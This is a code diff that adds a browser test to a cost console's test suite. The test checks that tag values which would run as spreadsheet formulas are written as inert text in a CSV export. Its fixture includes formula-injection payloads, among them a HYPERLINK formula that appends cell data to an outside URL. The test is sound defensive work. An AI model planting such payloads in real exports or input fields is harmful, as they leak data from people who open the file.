@@ -157,6 +157,29 @@ describe('console: costs, quality and overview', function () {
     assert.deepEqual(lines.at(-1), ['Total', EARLIER_COST, '0.0024', '0.125856']);
   });
 
+  it('writes tag values that would run as spreadsheet formulas as text in the CSV', async () => {
+    const hostile = await newTenant(stack.api, 'console-costs-formulas');
+    const tags = ['=HYPERLINK("https://example.com/?"&A1)', '+1', '-2+3', '@SUM(A1)', 'plain'];
+    await stack.api.services.db.query(
+      `INSERT INTO usage_records (id, project_id, source, agent_id, model, provider, price_version, input_tokens, output_tokens, cached_tokens, cost, metadata, created_at)
+       SELECT 'usage_formula_' || i, $1, 'run', 'agent_formula', 'gpt-4.1-mini', 'openai', 'test', 100, 10, 0, 0.01 * i, jsonb_build_object('team', tag), to_timestamp($3)
+       FROM unnest($2::text[]) WITH ORDINALITY AS t(tag, i)`,
+      [hostile.projectId, tags, today + 3600],
+    );
+    const other = await openConsole(stack.api.url);
+    try {
+      await signIn(other.page, hostile.admin.key!);
+      await visit(other, `/costs?${range}&group=metadata.team`);
+      await other.page.getByRole('table', { name: 'Totals by tag team' }).getByRole('rowheader', { name: 'plain', exact: true }).waitFor();
+      const [download] = await Promise.all([other.page.waitForEvent('download'), other.page.getByRole('button', { name: 'Download CSV' }).click()]);
+      const header = (await readFile((await download.path())!, 'utf8')).split('\r\n')[0]!;
+      // Biggest spend first: the tags in reverse.
+      assert.equal(header, `Bucket,plain,'@SUM(A1),'-2+3,'+1,"'=HYPERLINK(""https://example.com/?""&A1)",Total`);
+    } finally {
+      await other.close();
+    }
+  });
+
   it('draws 90 daily buckets of 20 agents, and the same range in hours, listing every bucket with spend', async () => {
     const wide = await newTenant(stack.api, 'console-costs-wide');
     const agents = Array.from({ length: 20 }, (_, i) => `agent_wide${String(i).padStart(2, '0')}`);
